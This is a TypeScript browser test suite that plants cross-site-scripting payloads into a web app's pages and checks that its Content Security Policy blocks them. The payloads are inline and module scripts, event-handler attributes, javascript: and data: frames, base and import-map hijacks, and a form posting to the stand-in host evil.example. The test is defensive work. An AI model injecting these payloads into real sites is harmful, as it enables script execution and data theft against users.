import type { Browser, Page, Route } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { address } from '../../src/routes.ts'
import { launchBrowser } from '../fixtures/browser.ts'
import { startRealSite, type RealSite, type SamplePerson } from '../fixtures/real-site.ts'

/**
 * Should text that means harm ever reach a page as it is, the browser is the last that may refuse it. Here it reaches every kind of page, put in on
 * the way, with the policy that the site sent.
 */
const evil = 'https://evil.example'

/** What runs says so; what asks another site is seen to. */
const planted = `
  <script>ran.push('inline')</script>
  <script nonce="">ran.push('empty nonce')</script>
  <script nonce="00000000000000000000000000000000">ran.push('guessed nonce')</script>
  <script type="module">ran.push('module')</script>
  <script src="${evil}/script.js"></script>
  <script src="data:text/javascript,ran.push('data')"></script>
  <script src="/api/search?q=window.ran"></script>
  <script type="importmap">{"imports":{"/enhance/":"${evil}/"}}</script>
  <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/speculated"]}]}</script>
  <img src="/no-such-picture" onerror="ran.push('onerror')" alt="">
  <svg onload="ran.push('onload')"><animate onbegin="ran.push('onbegin')" attributeName="x" dur="1s"></animate></svg>
  <details open ontoggle="ran.push('ontoggle')">x</details>
  <iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
  <iframe src="javascript:parent.ran.push('frame')"></iframe>
  <iframe src="data:text/html,<script>parent.postMessage('data frame', '*')</script>"></iframe>
  <iframe src="${evil}/frame"></iframe>
  <object data="${evil}/object"></object>
  <embed src="${evil}/embed">
  <base href="${evil}/">
  <link rel="stylesheet" href="${evil}/style.css">
  <link rel="prefetch" href="${evil}/prefetch">
  <link rel="modulepreload" href="${evil}/module.js">
  <style>@import '${evil}/imported.css'; body { background: url(${evil}/background) !important }</style>
  <p style="background: url(${evil}/attribute)">x</p>
  <img src="${evil}/picture" alt=""><video src="${evil}/video" poster="${evil}/poster"></video><audio src="${evil}/audio" autoplay></audio>`

let site: RealSite
let browser: Browser
beforeAll(async () => {
  site = await startRealSite()
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  await site?.close()
})

/** A page with what was planted in it: what ran, and which addresses of the other site were asked for. */
type Seen = { page: Page; asked: readonly string[]; ran(): Promise<string[]> }

async function visit<T>(path: string, as: SamplePerson | undefined, policy: boolean, look: (seen: Seen) => Promise<T>): Promise<T> {
  const context = await browser.newContext({ reducedMotion: 'reduce' })
  const page = await context.newPage()
  try {
    if (as) {
      const [name, value] = (await site.cookieOf(as)).split('=')
      await context.addCookies([{ name, value, url: site.origin }])
    }
    const asked: string[] = []
    await context.route(`${evil}/**`, (route) => {
      asked.push(new URL(route.request().url()).pathname)
      return route.fulfill({ contentType: 'text/javascript', body: "ran.push('elsewhere')" })
    })
    await page.route(
      (url) => url.href === site.origin + path,
      (route) => plant(route, policy),
    )
    await page.addInitScript(() => {
      const ran: string[] = []
      Object.assign(window, { ran })
      addEventListener('message', ({ data }) => data === 'data frame' && ran.push('data frame'))
    })
    await page.goto(site.origin + path, { waitUntil: 'load' })
    return await look({ page, asked, ran: () => page.evaluate(() => (window as unknown as { ran: string[] }).ran) })
  } finally {
    await context.close()
  }
}

async function plant(route: Route, policy: boolean): Promise<void> {
  const response = await route.fetch()
  const headers = response.headers()
  if (!policy) delete headers['content-security-policy']
  const body = (await response.text()).replace(/<body[^>]*>/, (opened) => opened + planted)
  expect(body).toContain(planted)
  await route.fulfill({ response, headers, body })
}

/** What does harm when it is pressed, put in when the page is alive: React takes away what it did not render. */
const traps = {
  link: `<a href="javascript:ran.push('link')">x</a>`,
  form: `<form action="javascript:ran.push('form')"><button>x</button></form>`,
  leaving: `<form action="${evil}/form" method="post"><button name="told" value="1">x</button></form>`,
}

/** As a script of the page would, whatever lies over it. */
const press = (page: Page, trap: keyof typeof traps) =>
  page.evaluate((html) => {
    document.body.insertAdjacentHTML('beforeend', html)
    const trapped = document.body.lastElementChild as HTMLElement
    ;(trapped.querySelector('button') ?? trapped).click()
  }, traps[trap])

const everyKind: [string, SamplePerson | undefined][] = [
  [address.home, undefined],
  [address.chooser, undefined],
  [address.findAnAgent, undefined],
  [address.quote, undefined],
  [address.login, undefined],
  ['/search?q=hail', undefined],
  ['/no-such-page', undefined],
  [address.home, 'customer'],
  [address.agentHub, 'agent'],
  [address.home, 'admin'],
  [address.inbox, 'admin'],
  [address.blogEditor, 'admin'],
  [address.insights, 'admin'],
]

it('sees what it would see without a policy', () =>
  visit(address.home, undefined, false, async ({ ran, asked }) => {
    await expect
      .poll(() => asked)
      .toEqual(expect.arrayContaining(['/script.js', '/style.css', '/background', '/picture', '/frame', '/object']))
    await expect.poll(ran).toEqual(expect.arrayContaining(['inline', 'module', 'onerror', 'onload', 'ontoggle', 'srcdoc', 'data frame']))
  }))

it.each(['link', 'form'] as const)('sees what a %s runs without one', (trap) =>
  visit(address.home, undefined, false, async ({ page, ran }) => {
    await press(page, trap)
    await expect.poll(ran).toContain(trap)
  }),
)

it('sees a form leave without one', () =>
  visit(address.home, undefined, false, async ({ page, asked }) => {
    await press(page, 'leaving')
    await expect.poll(() => asked).toContain('/form')
  }))

it.each(everyKind)('nothing planted in %s runs or asks another site, for %s', (path, as) =>
  visit(path, as, true, async ({ page, ran, asked }) => {
    for (const trap of Object.keys(traps) as (keyof typeof traps)[]) {
      await press(page, trap)
      // A form that left would have been asked for before this comes back.
      await page.evaluate(async () => (await fetch('/robots.txt')).text())
    }
    expect({ ran: await ran(), asked, at: page.url() }).toEqual({ ran: [], asked: [], at: site.origin + path })
  }),
)
